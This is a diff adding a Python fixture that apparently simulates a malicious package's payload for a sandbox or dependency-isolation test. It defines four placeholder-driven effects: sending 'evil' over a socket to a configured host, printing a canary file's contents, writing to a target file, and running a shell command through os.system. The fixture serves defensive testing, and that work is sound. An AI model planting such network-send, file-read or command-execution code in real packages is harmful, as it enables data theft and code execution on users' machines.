@@ -1,0 +1,44 @@
+"""What the malicious package is after: plain code of its own.
+
+The names in capitals that have no value here stand above it in each copy:
+REACH, HOST, PORT, CANARY, TARGET, PYTHON; ROOT, a directory that holds app/,
+private/, out/, home/ and tmp/; and DEPS, where evil and good lie.
+"""
+
+# A shell's command, and texts of programs, with the effect; each text can
+# stand anywhere in a line, and needs nothing that is not in it.
+COMMAND = f"echo evil > {TARGET}"
+SOURCES = {
+    "net": "import socket; s = socket.create_connection"
+           f"(({HOST!r}, {PORT}), 10); s.sendall(b'evil'); s.close()",
+    "read": f"import os; f = open({CANARY!r}); "
+            "os.write(1, f.read().encode()); f.close()",
+    "write": f"f = open({TARGET!r}, 'w'); f.write('evil'); f.close()",
+    "run": f"import os; os.system({COMMAND!r})",
+}
+SOURCE = SOURCES[REACH]
+
+
+def net():
+    import socket
+    with socket.create_connection((HOST, PORT), 10) as connection:
+        connection.sendall(b"evil")
+
+
+def read():
+    import os
+    with open(CANARY) as file:
+        os.write(1, file.read().encode())
+
+
+def write():
+    with open(TARGET, "w") as file:
+        file.write("evil")
+
+
+def run():
+    import os
+    os.system(COMMAND)
+
+
+act = {"net": net, "read": read, "write": write, "run": run}[REACH]
